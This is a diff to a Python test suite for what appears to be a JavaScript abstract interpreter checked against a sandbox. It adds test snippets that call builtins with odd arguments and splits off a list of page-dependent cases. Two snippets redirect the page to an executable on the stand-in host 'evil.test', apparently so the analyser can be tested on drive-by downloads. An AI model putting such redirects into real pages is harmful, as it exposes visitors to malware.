@@ -652,7 +652,29 @@ HOST_CASES = [
     'setTimeout(function () { missingInTimer(); }, 1); setTimeout("missingInString()", 1);',
     'document.write("<scr" + "ipt>brokenWritten(</scr" + "ipt>");',
     'document.attachEvent("onclick", function () {});',
-    # page facts no summary can know
+    # builtins on hostile arguments return a JS value or throw a JS error
+    # (a Python error would end the script, and Math.floor(NaN) would
+    # hide the navigation after it); on unknown page values they are
+    # summarised
+    "var x = Math.floor(parseInt('zz')); location.href = 'http://evil.test/a.exe';",
+    "document.write(Math.pow(-8, 1/3) + ' ' + Math.pow(0, -1) + ' ' + Math.sqrt(-1));",
+    "document.write(parseInt('0', 1) + ' ' + Math.round(1/0) + String.fromCharCode(65, 'x'));",
+    "document.write((5).toString(0));",
+    "document.write((5).toString(1));",
+    "document.write(typeof Math.floor(location.href.length) + typeof parseInt(location.href, 1));",
+    "document.write(typeof location.href.length.toString(2) + typeof location.href.length.toFixed(2));",
+    "document.write(location.href.length.toFixed(101));",
+    "document.write(typeof [location.href.length, 1].join('-'));",
+    "var a = []; a[50000000] = 1;",
+    # an index past an unknown string's longest length is undefined
+    "document.write(location.href[99999]);",
+]
+
+#: page facts no summary can know: only these host cases may abort
+PAGE_FACT_CASES = [
+    # a character of the page's URL is a string or undefined
+    "if (location.href[0]) location.href = 'http://evil.test/a.exe';",
+    "document.write(location.href[0]);",
     'var f = document.createElement("iframe"); f.src = "http://f.example/"; document.body.appendChild(f);',
     'var el = document.getElementById("x"); if (el) { el.innerHTML = "y"; }',
     'document.write("at " + location.pathname);',
@@ -668,6 +690,7 @@ HOST_CASES = [
     'p.insertBefore(document.createElement("i"), [a, b][location.href.length % 2]); '
     "document.write(p.innerHTML);",
 ]
+HOST_CASES += PAGE_FACT_CASES
 
 #: reasons a host case may abort with: each names a fact of the unknown
 #: page (or URL) that decides the sandbox's effects
@@ -725,7 +748,7 @@ def test_complete_absint_summaries_match_the_sandbox_host():
         if summary != expected:
             divergences.append({"source": source, "absint": summary, "sandbox": expected})
     _record_and_assert(divergences)
-    assert complete >= len(HOST_CASES) - 7
+    assert complete >= len(HOST_CASES) - len(PAGE_FACT_CASES)
 
 
 #: ContentAnalysis fields that only the pre-filter path sets
